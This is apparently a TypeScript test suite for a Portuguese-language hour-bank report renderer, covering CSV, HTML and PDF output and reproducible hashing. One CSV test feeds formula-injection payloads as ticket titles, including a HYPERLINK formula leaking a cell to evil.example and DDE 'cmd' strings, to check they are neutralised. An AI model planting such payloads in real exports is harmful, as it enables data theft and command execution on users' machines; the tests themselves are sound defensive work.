import { expect } from 'chai';
import { PDFParse } from 'pdf-parse';
import { buildMonthlyReport } from '../domain/build-monthly-report.js';
import { accountEvents, ticketOne, ticketThree, ticketTwo, tickets } from '../domain/report.fixtures.js';
import { type IssuedReport, issuedEdition, previewEdition } from '../domain/report-editions.js';
import type { ReportEvent } from '../domain/report-facts.js';
import { reportFormats } from '../domain/report-issue.js';
import { renderCsv, renderSummaryCsv } from './render-csv.js';
import { renderHtml } from './render-html.js';
import { CHART_TITLE } from './render-pdf.js';
import { hashReport, renderReport } from './render-report.js';

const HEAD = 'ab12'.repeat(16);
const issue: IssuedReport = {
  accountId: 'acme', period: '2027-01', position: 1234, chain: { head: HEAD, events: 1200 },
  issuer: { name: 'Agência Exemplo Ltda', document: 'CNPJ 12.345.678/0001-90', contact: 'suporte@agencia.com.br' },
  layout: 'hourbank.report-document.v3', issuedBy: 'maria', issuedAt: '2027-02-02T12:15:00Z', contentHash: '', formatHashes: {},
};
const januaryWith = (ticketStreams: readonly (readonly ReportEvent[])[]) => buildMonthlyReport({ period: '2027-01', account: accountEvents, tickets: ticketStreams });
const issued = (ticketStreams = tickets) => issuedEdition(() => januaryWith(ticketStreams), issue);
const preview = () => previewEdition(() => januaryWith(tickets), { position: 1300, chainHead: null, events: null }, { name: 'Hour Bank' });

const pdfText = async (bytes: Buffer): Promise<{ text: string; pages: number }> => {
  const parser = new PDFParse({ data: new Uint8Array(bytes) });
  try {
    const result = await parser.getText();
    return { text: result.text, pages: result.total };
  } finally {
    await parser.destroy();
  }
};

const rows = (csv: Buffer) => csv.toString('utf8').replace(/^\uFEFF/, '').split('\r\n').filter(Boolean).map((l) => l.split(';'));

describe('the CSV of movements', () => {
  const table = () => rows(renderCsv(issued()));

  it('is one table: a UTF-8 BOM, one header row, semicolons, CRLF, and the same number of fields on every row', () => {
    const text = renderCsv(issued()).toString('utf8');
    expect(text.startsWith('\uFEFFData;Hora;Tipo;Lote;')).to.equal(true);
    expect(text.endsWith('\r\n')).to.equal(true);
    expect(new Set(table().map((r) => r.length))).to.deep.equal(new Set([14]));
  });

  it('has a row per credit, per lot a debit or adjustment drew from, per shortfall and per expiry, in time order', () => {
    expect(table().slice(1).map((r) => r[2])).to.deep.equal([
      'Expiração', 'Crédito do plano', 'Pacote', 'Ajuste positivo', 'Ajuste negativo', 'Débito de chamado',
      'Débito de chamado', 'Débito de chamado', 'Débito de chamado', 'Débito de chamado', 'Débito de chamado', 'Excedente',
    ]);
  });

  it('names lots by label with their inclusive validity, tickets by number, and never prints a lot id', () => {
    const text = renderCsv(issued()).toString('utf8');
    expect(text).to.include('01/01/2027;00:00;Expiração;Plano 01/2026;Plano mensal;31/12/2026;;;');
    expect(text).to.include('20/01/2027;09:00;Débito de chamado;Pacote de 04/01/2027;Pacote único;31/12/2027;#1042;Integração com o ERP;');
    expect(text).to.not.match(/plan-20|package-pkg|adjustment-adj/);
  });

  it('adds up: the balance column runs from the opening balance to the closing one', () => {
    const body = table().slice(1);
    const sum = body.reduce((total, r) => total + Number(r[9]), 0);
    expect(440 + sum).to.equal(0);
    expect(body.at(-1)![12]).to.equal('0');
    expect(body.filter((r) => r[2] === 'Excedente').map((r) => r[11])).to.deep.equal(['25']);
  });

  describe('with text a spreadsheet would run as a formula', () => {
    const titled = (title: string) => ticketOne.map((e) => (e.type === 'TicketOpened' ? { ...e, data: { ...(e.data as Record<string, unknown>), title } } : e));
    const cellOf = (title: string) => rows(renderCsv(issued([titled(title), ticketTwo, ticketThree]))).find((r) => r[6] === '#1041')![7]!;

    for (const title of ['=HYPERLINK("https://evil.example/?x="&A1,"Abrir")', '+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd', '\t=1+1', '\r=1+1']) {
      it(`neutralises ${JSON.stringify(title.slice(0, 12))}… with a leading quote`, () => {
        const cell = cellOf(title);
        expect(cell.replace(/^"/, '').startsWith("'"), cell).to.equal(true);
        expect(cell.replace(/^"|"$/g, '').replaceAll('""', '"')).to.equal(`'${title}`);
      });
    }

    it('leaves signed numbers alone, not text after a sign', () => {
      expect(table().find((r) => r[2] === 'Ajuste negativo')!.slice(9, 11)).to.deep.equal(['-45', '-0:45']);
      expect([cellOf('-20'), cellOf('+5,5'), cellOf('-20 minutos')]).to.deep.equal(['-20', '+5,5', "'-20 minutos"]);
    });
  });
});

describe('the summary CSV', () => {
  const summary = () => renderSummaryCsv(issued()).toString('utf8');

  it('is its own file: the figures in h:mm and minutes, the invoice, SLA, the issue and the log it comes from', () => {
    expect(summary().startsWith('\uFEFFItem;Valor;Minutos\r\nCliente;Acme Comércio Ltda;\r\n')).to.equal(true);
    for (const line of ['Saldo inicial;7:20;440', 'Horas creditadas;5:30;330', 'Horas consumidas em chamados;11:10;670', 'excedentes (sem saldo);0:25;25',
      'Horas expiradas;1:20;80', 'Saldo final;0:00;0', 'Valor da fatura de excedente;R$ 62,63;', 'Edição;Emitido em 02/02/2027 09:15 por maria.;',
      'Posição no registro de eventos;1234;', `Cadeia de integridade (SHA-256);${HEAD};`]) {
      expect(summary()).to.include(`${line}\r\n`);
    }
  });
});

describe('the HTML rendering', () => {
  const html = () => renderHtml(issued()).toString('utf8');

  it('is a printable Portuguese page with the issuer, the edition and page numbers in print', () => {
    expect(html()).to.match(/^<!DOCTYPE html>\n<html lang="pt-BR">/);
    expect(html()).to.include('counter(page) " de " counter(pages)');
    expect(html()).to.include('<strong>Agência Exemplo Ltda</strong><small>CNPJ 12.345.678/0001-90</small>');
    expect(html()).to.include('Emitido em 02/02/2027 09:15 por maria.');
    expect(renderHtml(preview()).toString('utf8')).to.include('Prévia: relatório não emitido');
  });

  it('shows the figures in h:mm and reais, lots by label, and draws the plan allowance on the chart', () => {
    expect(html()).to.include('<td>Saldo inicial</td><td class="n">7:20</td>');
    expect(html()).to.include('<td>Valor da fatura</td><td>R$ 62,63</td>');
    expect(html()).to.include('<td>Plano 01/2026</td><td>31/12/2026</td><td class="n">1:20</td>');
    expect(html()).to.match(/<polyline fill="none" stroke="#c0392b"/);
  });
});

describe('the PDF rendering', function () {
  this.timeout(20_000);

  it('embeds its fonts', async () => {
    const bytes = await renderReport(issued(), 'pdf');
    expect(bytes.toString('latin1')).to.match(/\/FontFile2 /).and.match(/NotoSans-Regular/).and.not.match(/\/BaseFont \/Helvetica/);
  });

  it('holds the Portuguese labels, accents included, the figures, ticket numbers and lot labels, and no lot id', async () => {
    const { text } = await pdfText(await renderReport(issued(), 'pdf'));
    for (const expected of ['Relatório mensal de banco de horas', 'Acme Comércio Ltda', 'janeiro de 2027 (01/01/2027 a 31/01/2027)', 'Saldo inicial',
      '7:20', 'Horas consumidas em chamados', '11:10', 'Horas expiradas', '#1042', 'Integração com o ERP', 'Reunião', 'Investigação',
      'R$ 62,63', 'Primeira resposta', 'Plano 03/2026', 'Pacote de 04/01/2027', '31/12/2026']) {
      expect(text).to.include(expected);
    }
    expect(text).to.not.match(/plan-20|package-pkg|adjustment-adj/);
  });

  it('numbers its pages and prints the issuer, the issue and the chain head it was built on', async () => {
    const { text, pages } = await pdfText(await renderReport(issued(), 'pdf'));
    expect(pages).to.be.greaterThan(1);
    for (let page = 1; page <= pages; page++) expect(text).to.include(`Página ${page} de ${pages}`);
    expect(text.split('Agência Exemplo Ltda').length - 1).to.be.at.least(pages);
    expect(text).to.include('Emitido em 02/02/2027 09:15 por maria.').and.include(HEAD).and.include('posição 1234');
  });

  it('charts the contract\'s last 12 months only, beside the plan allowance', async () => {
    const { text } = await pdfText(await renderReport(issued(), 'pdf'));
    const chart = text.slice(text.indexOf(CHART_TITLE));
    expect(chart).to.include('fev/26').and.include('jan/27').and.include('11:10').and.include('franquia do plano');
    expect(chart).to.not.include('jan/26');
  });
});

describe('regenerating a report', function () {
  this.timeout(20_000);

  it('gives the same bytes in every format', async () => {
    for (const format of reportFormats) {
      const [first, second] = [await renderReport(issued(), format), await renderReport(issued(), format)];
      expect(first.equals(second), format).to.equal(true);
    }
  });

  it('gives the same hashes, and other hashes for other facts', async () => {
    const hashes = await hashReport(issued());
    expect(await hashReport(issued())).to.deep.equal(hashes);
    const other = await hashReport(issuedEdition(() => buildMonthlyReport({ period: '2027-01', account: accountEvents.slice(0, -1), tickets }), issue));
    expect(other.contentHash).to.not.equal(hashes.contentHash);
    expect(other.formatHashes.pdf).to.not.equal(hashes.formatHashes.pdf);
  });
});
